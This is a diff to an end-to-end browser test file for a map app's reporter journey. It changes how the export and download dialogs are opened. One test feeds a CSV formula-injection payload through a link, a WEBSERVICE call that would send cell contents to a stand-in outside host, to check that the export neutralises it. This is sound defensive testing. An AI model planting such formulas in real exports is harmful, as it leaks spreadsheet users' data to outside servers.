@@ -9,7 +9,7 @@ import { mkdirSync, readFileSync } from 'node:fs';
 import { PNG } from 'pngjs';
 import Papa from 'papaparse';
 import { launch, newPage, screenshot, waitForIdle, ARTIFACTS } from './browser';
-import { expectCount, openApp } from './app';
+import { expectCount, openApp, openDialog } from './app';
 import { agenciesLabel, countWhere } from './dataset';
 
 const STATES = ['NJ', 'NY', 'PA'];
@@ -79,7 +79,7 @@ describe('reporter: a regional image and its data', () => {
   it('exports a PNG of exactly the on-screen view, with the edited title and the coverage note', async () => {
     const mapShot = PNG.sync.read(await page.locator('#map').screenshot());
     const screenBox = (await page.locator('#map').boundingBox())!;
-    await page.click('#export-button');
+    await openDialog(page, '#export-button');
     // Default title and subtitle: the filters in words.
     expect(await page.inputValue('#export-subtitle')).toContain('in NJ, NY, PA');
     await page.fill('#export-title-text', 'Ring partnerships in New Jersey, New York and Pennsylvania');
@@ -120,7 +120,7 @@ describe('reporter: a regional image and its data', () => {
   });
 
   it('downloads all matching agencies and only those in view, each as many rows as the dialog said', async () => {
-    await page.click('#download-button');
+    await openDialog(page, '#download-button');
     await screenshot(page, 'journey-reporter-3-download-dialog');
     const allText = (await page.locator('label[for="download-all"]').textContent()) ?? '';
     const viewText = (await page.locator('label[for="download-view"]').textContent()) ?? '';
@@ -169,7 +169,7 @@ describe('reporter: a regional image and its data', () => {
     await offer.waitFor({ state: 'hidden' });
     await waitForIdle(phone);
     await screenshot(phone, 'journey-reporter-phone-2-framed');
-    await phone.click('#download-button');
+    await openDialog(phone, '#download-button');
     expect(await phone.locator('label[for="download-all"]').textContent()).toContain(agenciesLabel(IN_STATES));
     await screenshot(phone, 'journey-reporter-phone-3-download');
     await context.close();
@@ -177,7 +177,7 @@ describe('reporter: a regional image and its data', () => {
 
   it('a hostile link cannot plant formulas in the CSV', async () => {
     await openApp(page, 'state=NJ&q=,=1+1,=WEBSERVICE(%22http://example.org/?%22%26A1)');
-    await page.click('#download-button');
+    await openDialog(page, '#download-button');
     const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#download-csv')]);
     const path = `${ARTIFACTS}/journey-reporter-hostile.csv`;
     await dl.saveAs(path);
